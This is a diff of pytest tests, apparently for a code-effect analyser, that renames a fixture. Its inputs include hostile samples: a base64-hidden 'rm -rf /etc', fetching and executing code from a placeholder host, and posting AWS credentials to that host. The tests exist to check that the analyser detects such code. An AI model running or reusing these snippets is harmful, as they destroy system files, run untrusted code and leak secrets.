@@ -187,10 +187,10 @@ def test_benign_sources_have_no_effects(effects, source):
     assert effects("python", source) == []
 
 
-def test_decoded_text_is_marked(told):
-    sink = told("python", "import base64, os; os.system(base64.b64decode('cm0gLXJmIC9ldGM=').decode())")
+def test_decoded_text_is_marked(read_language):
+    sink = read_language("python", "import base64, os; os.system(base64.b64decode('cm0gLXJmIC9ldGM=').decode())")
     assert sink.taints == [Taint.DECODED | Taint.UNKNOWN]
-    sink = told("python", "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))")
+    sink = read_language("python", "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))")
     assert sink.said == [("code", "python", "?")]
     assert sink.taints == [Taint.DECODED | Taint.UNKNOWN]
 
@@ -204,8 +204,8 @@ def test_decoded_text_is_marked(told):
         "import requests\nr = requests.get('http://h/')\nif r.ok:\n c = r.text.strip()\n exec(compile(c, 'x', 'exec'))",
     ],
 )
-def test_remote_code(told, source):
-    sink = told("python", source)
+def test_remote_code(read_language, source):
+    sink = read_language("python", source)
     assert sink.said[0] == ("run", "curl", "http://h/")
     assert sink.said[1] == ("code", "python", "?")
     assert sink.taints[1] & Taint.REMOTE
@@ -221,8 +221,8 @@ def test_remote_code(told, source):
         "import requests; requests.post('http://h/', files={'f': open('/home/dev/.aws/credentials', 'rb')})",
     ],
 )
-def test_secrets_that_are_sent(told, source):
-    sink = told("python", source)
+def test_secrets_that_are_sent(read_language, source):
+    sink = read_language("python", source)
     sends = [i for i, said in enumerate(sink.said) if said[1:3] == ("curl", "--data-binary")]
     assert len(sends) == 1
     assert sink.said[sends[0]][-1] == "http://h/"
@@ -235,24 +235,24 @@ def test_unknown_parts_are_holes(effects):
     assert effects("python", HOLE + "\nimport os; os.remove('a')") == [("code", "python", "?"), ("run", "rm", "a")]
 
 
-def test_modules_beside_the_source_are_read(told):
+def test_modules_beside_the_source_are_read(read_language):
     files = {"helper.py": Seen("file", "import os\ndef go():\n os.remove('a')\n"), "bad.py": Seen("file", "x", Taint.REMOTE)}
-    assert told("python", "import helper; helper.go()", files=files).said == [("run", "rm", "a")]
-    assert told("python", "import bad", files=files).said == [("code", "python", "x")]
+    assert read_language("python", "import helper; helper.go()", files=files).said == [("run", "rm", "a")]
+    assert read_language("python", "import bad", files=files).said == [("code", "python", "x")]
 
 
-def test_a_module_of_the_project_that_is_called_agent_is_its_own(told):
+def test_a_module_of_the_project_that_is_called_agent_is_its_own(read_language):
     """Names that toolcrib's own package has are reported all the same: the installed package may be what is imported."""
     own = {"agent.py": Seen("file", "class Agent: pass\n")}
-    assert told("python", "from agent import Agent", files=own).said == [("run", "@own-code", "agent.Agent", "beside")]
-    assert told("python", "import agent", files=own).said == []
-    assert ("run", "@own-code", "agent.config", "beside") in told("python", "from agent import config", files=own).said
-    assert told("python", "import agent", files={}).said == [("run", "@own-code", "agent", "here")]
+    assert read_language("python", "from agent import Agent", files=own).said == [("run", "@own-code", "agent.Agent", "beside")]
+    assert read_language("python", "import agent", files=own).said == []
+    assert ("run", "@own-code", "agent.config", "beside") in read_language("python", "from agent import config", files=own).said
+    assert read_language("python", "import agent", files={}).said == [("run", "@own-code", "agent", "here")]
 
 
-def test_a_file_that_is_executed_is_read(told):
+def test_a_file_that_is_executed_is_read(read_language):
     files = {"a.py": Seen("file", "import os; os.remove('a')")}
-    assert ("run", "rm", "a") in told("python", "exec(open('a.py').read())", files=files).said
+    assert ("run", "rm", "a") in read_language("python", "exec(open('a.py').read())", files=files).said
 
 
 @pytest.mark.parametrize("source", ["import (", "x" * 100_001, "(" * 50_000, "a\0b", HOLE, "[" * 99 + "a"])
